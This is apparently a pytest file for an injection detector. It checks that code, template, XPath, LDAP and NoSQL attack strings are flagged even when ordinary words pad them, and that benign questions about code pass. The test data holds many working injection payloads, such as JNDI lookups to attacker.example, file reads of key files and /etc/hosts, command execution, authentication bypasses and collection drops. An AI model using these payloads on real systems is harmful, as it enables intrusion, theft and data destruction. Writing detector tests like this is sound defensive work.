"""Words around an attack that do not keep it from working, and the same words of honest people."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.code import DETECTOR as CODE
from vallum.inspection.detectors.ldap import DETECTOR as LDAP
from vallum.inspection.detectors.nosql import DETECTOR as NOSQL
from vallum.inspection.detectors.template import DETECTOR as TEMPLATE
from vallum.inspection.detectors.xpath import DETECTOR as XPATH

WORDS = "a small red boat waits near our harbour since Monday "


@pytest.mark.parametrize(
    "text",
    [
        # In strings and comments of the program
        f"/* {WORDS} */ 'whoami'.execute().text",
        f"def note = '{WORDS}'; 'whoami'.execute()",
        f"-- {WORDS}\nos.execute('whoami')",
        f'System.cmd("whoami", []) # {WORDS}',
        f'Sys.command "whoami" (* {WORDS} *)',
        f'(* {WORDS} *) Sys.command "whoami"',
        f"/* {WORDS} */ while(1);",
        f"'{WORDS}'+process.env.HOME_SECRET",
        f"'''\n{WORDS}\n'''\n__import__('platform').system('whoami')",
        f"''.__class__.__mro__[1] and '{WORDS}'",
        f"%w({WORDS});Marshal.load('x')",
        f'System.Diagnostics.Process.Start("notepad"); // {WORDS}',
        f'(clojure.java.shell/sh "whoami" "{WORDS}")',
        f"require('fs').readFileSync('/srv/a.key') // {WORDS}",
        f"x'; Kernel.exec('whoami'); y = '{WORDS}",
        # In what languages write in words, and in names of one's own
        "0 if not a is b else __import__('os').uname()",
        "(a, __import__('subprocess').run('whoami'))",
        "{a: process.exit()}",
        "pass\n__import__('subprocess').run('whoami')",
        "имя_переменной=__import__('subprocess').run('whoami')",
        "process; module; exports; require; process.binding('fs')",
        "'```';__import__('subprocess').run('whoami')",
        # Outside of the marks that a server looks for
        f"{WORDS}<?php readfile('/srv/a.key'); ?> {WORDS}",
        f"{WORDS}<?= file_get_contents('/srv/a.key') ?> {WORDS}",
        f"<?php /* {WORDS} */ include '../../a.log'; ?>",
        f"{WORDS}<?php $a='sys'.'tem';$a('whoami');?> {WORDS}",
        f'{WORDS}<c:import url="file:///srv/a.key"/> {WORDS}',
        f'{WORDS}<jsp:include page="/WEB-INF/web.xml"/> {WORDS}',
        f'{WORDS}<%@ include file="/etc/hosts" %> {WORDS}',
        f'{WORDS}<cfexecute name="whoami" timeout="5"></cfexecute> {WORDS}',
        f"{WORDS}\\immediate\\write18{{whoami}} {WORDS}",
        f"class.module.classLoader.resources.context.path={WORDS}",
        # What looks like a formula, or like a function that is handed over
        "$f='system';$f('whoami');//$",
        "$f='system';$f('whoami');$b=['a'=>1];",
    ],
)
def test_words_do_not_spare_code(text: str) -> None:
    assert Suspects(CODE).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "Please never call os.system('ls') in this project, it is not portable",
        "Our linter tells me that process.exit() should not be used in libraries",
        "How do I replace system('ls -la') in the old script of my colleague?",
        "In an old page I found the tag <?php and do not know what it means",
        "You can write <?php include 'header.php'; ?> at the top of every page",
        "He said that the element <cfexecute> was once used for this kind of thing",
        "Does anybody know whether \\write18 is allowed on the server of the journal?",
        "Bitte benutzen Sie os.system('ls') nicht mehr in den neuen Programmen",
        "Мы больше не используем os.system('ls') в наших программах",
        "Dear all,\nplease replace\nos.system('ls')\nby something better, thank you",
        "The value of $f(x)$ is always positive",
        "$effect(() => { count += 1 })",
        "Look at this:\n\n```python\nimport subprocess\nsubprocess.run(args)\n```\nIt hangs.",
        "def start(command):\n    return subprocess.run(command)",
    ],
)
def test_people_may_still_write_of_code(text: str) -> None:
    assert Suspects(CODE).score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        f"{WORDS}${{jndi:dns:/a.attacker.example}}",
        f"{WORDS}${{jndi:dns:a.attacker.example}} {WORDS}",
        f"{WORDS}#set($a = $class.inspect('java.lang.Runtime').type)$a.x {WORDS}",
        f"{WORDS}#macro(a)$x.class.forName('java.lang.Runtime')#end {WORDS}",
        f"{WORDS}#include('/etc/hosts') {WORDS}",
        f"{WORDS}#evaluate($request.getParameter('a')) {WORDS}",
        f"{WORDS}@System.IO.File.ReadAllText('web.config') {WORDS}",
        f'{WORDS}<#include "/etc/hosts"> {WORDS}',
        f"{WORDS}[% INCLUDE /etc/hosts %] {WORDS}",
        f"{WORDS}[% RAWPERL %] print 1 [% END %] {WORDS}",
        f"{WORDS}{{{{ lookup('pipe','whoami') }}}} {WORDS}",
        f'{WORDS}{{{{.System "whoami"}}}} {WORDS}',
        f"{WORDS}{{{{ source('/etc/hosts') }}}} {WORDS}",
        f"{WORDS}{{{{ include('../../a.log') }}}} {WORDS}",
        f"{WORDS}{{{{ messages.storages.0.signer.key }}}} {WORDS}",
        f'{WORDS}<p tal:content="python: 6*9"> {WORDS}',
        f'{WORDS}$class.inspect("java.lang.Runtime") {WORDS}',
    ],
)
def test_an_engine_prints_the_words_around(text: str) -> None:
    assert Suspects(TEMPLATE).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "The lookup ${jndi:...} is what made that old hole in the logger so famous",
        "A string like ${jndi:ldap} in our logs means that somebody is scanning us",
        "In Velocity I write #set($total = 5) at the top, but then the page stays empty",
        "Use <#assign name='Anna'> if you want a variable in all of your templates",
        "Please contact @System.Admin when the page is not there in the morning",
        "- hosts: all\n  tasks:\n    - name: a\n      debug:\n  msg: {{ lookup('pipe', 'date') }}",
        "Dear {{ user.name }}, your order {{ order.id }} has been sent to you today",
        'Our chart has {{ include "shop.labels" . }} in every one of its files',
    ],
)
def test_people_may_still_write_of_templates(text: str) -> None:
    assert Suspects(TEMPLATE).score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        f"{WORDS}'] | //account[x='",
        "[boat'] | //account[x='",
        "[[boat'] | //account[x='",
        "say \"boat\" to me in the nice old harbour today please' or name()='account",
        f"1 | //account (: {WORDS} :)",
        f"{WORDS}' | //account | '",
        f"doc('http://attacker.example/a')(: {WORDS} :)",
        f"count(//account) (: {WORDS} :)",
        f"{WORDS}' return doc('file:///srv/a') (: ",
    ],
)
def test_the_string_of_a_path_may_hold_words(text: str) -> None:
    assert Suspects(XPATH).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "You cannot ask count(//account) here, since the document has no such element at all",
        "I'd like to know why //a[b='c']/* finds nothing in the file that I sent you",
        "The list [1]/[2] is what we have agreed on with the others last week, is it not",
        "My function calls doc('http://www.example.com/a.xml') and nothing happens then, why",
    ],
)
def test_people_may_still_write_of_paths(text: str) -> None:
    assert Suspects(XPATH).score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    ["a:)(cn=*", ";)(|(uid=a))", "x:)(|(objectClass=a)", "a) (userPassword=b", "a) (mail=b"],
)
def test_a_face_is_no_way_out_of_a_filter(text: str) -> None:
    assert Suspects(LDAP).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    ["Thank you :)", "nice ;) (really)", "group a) (n=5) and b) (n=6)", "(as here :) (a=b)"],
)
def test_faces_and_counts_pass(text: str) -> None:
    assert Suspects(LDAP).score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        f"{WORDS}' RETURN n //",
        f"a' DETACH DELETE n // {WORDS}",
        f"a' REMOVE u IN users // {WORDS}",
        "= ' RETURN n.name //",
        "with 'SET n.admin=true //",
        ", ' SET n.role='a' //",
        f'FOR u IN users FILTER u.note != "{WORDS}" RETURN u',
        f"MATCH (n) WHERE n.note <> '{WORDS}' RETURN n",
        f"db.users.drop() /* {WORDS} */",
        "db.users.drop() instanceof Object && this",
        f"1; return true // {WORDS}",
        f"1 || this.name != '{WORDS}' // a",
        f'{WORDS}", "$gt": "',
        f'{WORDS}"}}, "login": {{"$ne": "a"',
        f"{WORDS}', $or: [ {{}}, {{ 'a':'a",
        f"login[$ne]={WORDS}",
        f"{WORDS}' ALLOW FILTERING;--",
        f"{WORDS}) OR password:* OR (a",
        f"{{!xmlparser v='<a/>'}} {WORDS}",
        f"redis.call('set','a','{WORDS}')",
    ],
)
def test_the_strings_of_a_query_may_hold_words(text: str) -> None:
    assert Suspects(NOSQL).score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "title eq 'set x.y = 1'",
        "I use db.cats.find() in the shell and it is slow, can you tell me what is wrong there",
        "You can use '$gt': 5 in a query if you want to find all that are older than that",
        "A parameter like a[$ne]=1 is what people send who want to try whether we look at it",
        'My query {"query": {"match_all": {}}} does not give me what I had expected from it',
        "The statement MATCH (n:Person) RETURN n is what the book has on its very first page",
        "Do not write ALLOW FILTERING if you can help it, it's slow for all of the others",
    ],
)
def test_people_may_still_write_of_queries(text: str) -> None:
    assert Suspects(NOSQL).score(text) < STOPS
